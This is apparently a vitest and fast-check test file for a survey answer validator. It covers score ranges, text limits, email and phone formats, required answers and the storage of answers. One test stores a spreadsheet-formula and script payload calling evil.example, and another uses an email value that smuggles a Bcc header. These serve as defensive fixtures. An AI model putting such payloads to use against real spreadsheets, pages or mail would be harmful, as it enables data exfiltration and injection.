import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { compileAnswerCheck, knownAnswers } from './check-answers.ts';
import { draftFromQuestionnaire } from './library/questionnaires.ts';
import { sampleSurvey } from './sample-survey.ts';
import { questionsOf, type SurveyDefinition } from './survey-definition.ts';

const details = { organisation: 'De Vries', readerName: 'Sanne van Dijk', name: 'Klanten' };
const definition = draftFromQuestionnaire('recommendation', details);
const check = compileAnswerCheck(definition);
const checkAll = compileAnswerCheck(sampleSurvey);

/** The sample with every question required. */
const strictSurvey: SurveyDefinition = JSON.parse(
  JSON.stringify(sampleSurvey).replaceAll('"required":false', '"required":true'),
);
const strict = compileAnswerCheck(strictSurvey);

describe('an answer to a published survey', () => {
  test('every score of the scale is taken, and so are a reason, a permission and a skip', () => {
    for (let score = 0; score <= 10; score += 1) expect(check({ nps: score })).toBeUndefined();
    expect(check({ nps: 9, why: 'Snel geholpen 👍', may_contact: 'yes' })).toBeUndefined();
    expect(check({ nps: null, why: null, may_contact: null })).toBeUndefined();
    expect(check({})).toBeUndefined();
  });

  test.each([
    ['a score as text', { nps: '9' }, 'answer_type'],
    ['a list with one score', { nps: [9] }, 'answer_type'],
    ['two scores', { nps: [10, 10] }, 'answer_type'],
    ['no list of scores', { nps: [] }, 'answer_type'],
    ['a yes for a score', { nps: true }, 'answer_type'],
    ['no number at all', { nps: Number.NaN }, 'answer_type'],
    ['eleven on a scale to ten', { nps: 11 }, 'answer_range'],
    ['less than nothing', { nps: -1 }, 'answer_range'],
    ['endlessly much', { nps: Number.POSITIVE_INFINITY }, 'answer_range'],
    ['seven and a half', { nps: 7.5 }, 'answer_step'],
    ['an answer apart from the scale that is not offered', { nps: '~dont_know' }, 'answer_type'],
    ['a number for a reason', { nps: 9, why: 3 }, 'answer_type'],
    ['a text with NUL', { why: 'a\0b' }, 'answer_not_text'],
    ['half a surrogate pair', { why: 'a\ud83d' }, 'answer_not_text'],
    ['a text over its limit', { why: 'x'.repeat(2001) }, 'answer_too_long'],
    ['blanks over the limit', { why: ' '.repeat(2001) }, 'answer_too_long'],
    ['perhaps for yes or no', { may_contact: 'perhaps' }, 'answer_choice'],
    ['a tick for yes or no', { may_contact: true }, 'answer_type'],
  ])('%s is refused, with the place', (_, answers, code) => {
    expect(check(answers)).toEqual({ code, pointer: `/${Object.keys(answers).at(-1)}` });
  });

  test.each([[null], [undefined], [[]], ['nps=9'], [9]])('%j is not a set of answers', (value) => {
    expect(check(value)).toEqual({ code: 'answers_not_object', pointer: '' });
  });

  test('a text of 2,000 emoji is as long as one of 2,000 letters', () => {
    expect(check({ why: '👍'.repeat(2000) })).toBeUndefined();
    expect(check({ why: '👍'.repeat(2001) })?.code).toBe('answer_too_long');
  });
});

describe('every kind of question takes what belongs to it', () => {
  test.each<[string, unknown]>([
    ['nps', '~dont_know'],
    ['grade', 7.5],
    ['grade', 7],
    ['reasons', ['price', 'other']],
    ['reasons', ['none']],
    ['reasons', []],
    ['reasons_other_text', 'De hond'],
    ['reasons_other_text', ''],
    ['may_contact', 'no'],
    ['compliment', 'Dank aan Fatima'],
    ['order', ['speed', 'people', 'price']],
    ['shop', 'other'],
    ['shop', '~not_applicable'],
    ['solved', 'partly'],
    ['minutes', 12.5],
    ['visited', '2024-02-29'],
    ['email', 'kari.nordmann@example.no'],
    ['email', ' kari@example.no '],
    ['phone', '+47 22 (0)0.00-00'],
  ])('%s: %j', (id, value) => {
    expect(checkAll({ [id]: value })).toBeUndefined();
  });

  test.each<[string, unknown, string]>([
    ['nps', '~not_applicable', 'answer_type'],
    ['grade', 7.25, 'answer_step'],
    ['grade', 10.5, 'answer_range'],
    ['reasons', ['price', 'price'], 'answer_repeated'],
    ['reasons', ['none', 'price'], 'answer_exclusive'],
    ['reasons', ['price', 'speed', 'people'], 'answer_too_many'],
    ['reasons', Array(100_000).fill('price'), 'answer_repeated'],
    ['reasons', ['pricing'], 'answer_choice'],
    ['reasons', [7], 'answer_type'],
    ['reasons', [['price']], 'answer_type'],
    ['reasons', 'price', 'answer_type'],
    ['reasons', { 0: 'price' }, 'answer_type'],
    ['reasons_other_text', 'x'.repeat(501), 'answer_too_long'],
    ['reasons_other_text', ['x'], 'answer_type'],
    ['may_contact', 'partly', 'answer_choice'],
    ['order', ['price', 'speed'], 'answer_ranking'],
    ['order', ['price', 'speed', 'speed'], 'answer_repeated'],
    ['order', ['price', 'speed', 'other'], 'answer_choice'],
    ['shop', 'none', 'answer_choice'],
    ['shop', '~dont_know', 'answer_choice'],
    ['shop', ['price'], 'answer_type'],
    ['minutes', 12.55, 'answer_step'],
    ['minutes', 601, 'answer_range'],
    ['minutes', '12', 'answer_type'],
    ['minutes', Number.NEGATIVE_INFINITY, 'answer_range'],
    ['visited', '2026-02-30', 'answer_date'],
    ['visited', '0000-01-01', 'answer_date'],
    ['visited', '17-05-2026', 'answer_date'],
    ['visited', '2019-12-31', 'answer_range'],
    ['visited', '2031-01-01', 'answer_range'],
    ['visited', 20260517, 'answer_type'],
    ['email', 'kari', 'answer_email'],
    ['email', 'kari@nordmann', 'answer_email'],
    ['email', 'kari@example.no\r\nBcc: all@example.no', 'answer_email'],
    ['email', 'a b@example.no', 'answer_email'],
    ['email', `${'a'.repeat(300)}@example.no`, 'answer_too_long'],
    ['phone', 'bel mij', 'answer_phone'],
    ['phone', '12', 'answer_phone'],
  ])('%s: %j is refused', (id, value, code) => {
    expect(checkAll({ [id]: value })).toEqual({ code, pointer: `/${id}` });
  });

  test('a hostile address is judged as quickly as any other', () => {
    const started = performance.now();
    checkAll({ email: `${'a.'.repeat(120)}@${'.a'.repeat(7)}` });
    checkAll({ phone: `${'('.repeat(39)}x` });
    expect(performance.now() - started).toBeLessThan(50);
  });

  test('a required question cannot be skipped, nor answered with nothing', () => {
    for (const { id } of questionsOf(strictSurvey)) {
      expect(strict({ [id]: null })).toEqual({ code: 'answer_required', pointer: `/${id}` });
    }
    expect(strict({ why: ' \n ' })).toEqual({ code: 'answer_required', pointer: '/why' });
    expect(strict({ reasons: [] })).toEqual({ code: 'answer_required', pointer: '/reasons' });
    expect(strict({ nps: '~dont_know' })).toBeUndefined();
  });
});

describe('what is kept', () => {
  test('answers to questions that the survey does not have are left out and counted', () => {
    const answers = JSON.parse('{"nps":9,"grade":7,"__proto__":{"why":"x"},"constructor":1}');
    expect(check(answers)).toBeUndefined();
    expect(knownAnswers(definition, answers)).toEqual({ answers: { nps: 9 }, unknownCount: 3 });
  });

  test('a reason of blanks is a skip, and so is a list of nothing', () => {
    expect(knownAnswers(definition, { nps: 9, why: '  ' }).answers).toEqual({ nps: 9, why: null });
    expect(knownAnswers(sampleSurvey, { reasons: [] }).answers).toEqual({ reasons: null });
  });

  test('choices in the survey’s order, a ranking in the person’s', () => {
    const given = { reasons: ['other', 'price'], order: ['speed', 'people', 'price'], email: ' kari@example.no ' };
    expect(knownAnswers(sampleSurvey, given).answers).toEqual({
      reasons: ['price', 'other'],
      order: ['speed', 'people', 'price'],
      email: 'kari@example.no',
    });
  });

  test('a text byte for byte, whatever it looks like', () => {
    const why = '=HYPERLINK("http://evil.example?x="&A1) <script>fetch("//evil.example")</script>\n';
    expect(knownAnswers(definition, { why }).answers).toEqual({ why });
  });
});

/** What the rule says, written a second time as plainly as possible. */
function isRight(id: string, value: unknown): boolean {
  if (value === null) return true;
  if (id === 'nps') return Number.isInteger(value) && Number(value) >= 0 && Number(value) <= 10;
  if (id === 'may_contact') return value === 'yes' || value === 'no';
  return typeof value === 'string' && [...value].length <= 2000 && !value.includes('\0') && value.isWellFormed();
}

describe('whatever is sent', () => {
  const value = fc.oneof(
    fc.anything(),
    fc.integer({ min: -3, max: 13 }),
    fc.double(),
    fc.constantFrom('yes', 'no', 'Yes', '', null),
    fc.string({ unit: 'binary', maxLength: 2100 }),
  );

  test('the check says the same as the rule, and never throws', () => {
    fc.assert(
      fc.property(fc.constantFrom('nps', 'why', 'may_contact'), value, (id, sent) => {
        fc.pre(sent !== undefined);
        expect(check({ [id]: sent }) === undefined).toBe(isRight(id, sent));
      }),
      { numRuns: 2000 },
    );
  });

  test('no answer of any shape makes the check throw', () => {
    const anyId = fc.constantFrom(...questionsOf(sampleSurvey).map(({ id }) => id), 'reasons_other_text');
    fc.assert(
      fc.property(fc.oneof(fc.anything(), fc.dictionary(anyId, value)), (sent) => {
        expect(['object', 'undefined']).toContain(typeof checkAll(sent));
      }),
      { numRuns: 2000 },
    );
  });

  test('what is kept is checked again without a fault, and keeping it twice changes nothing', () => {
    fc.assert(
      fc.property(fc.dictionary(fc.constantFrom('nps', 'why', 'may_contact', 'other'), fc.jsonValue()), (sent) => {
        fc.pre(check(sent) === undefined);
        const given = sent as Parameters<typeof knownAnswers>[1];
        const once = knownAnswers(definition, given).answers;
        expect(check(once)).toBeUndefined();
        expect(knownAnswers(definition, once)).toEqual({ answers: once, unknownCount: 0 });
      }),
    );
  });
});
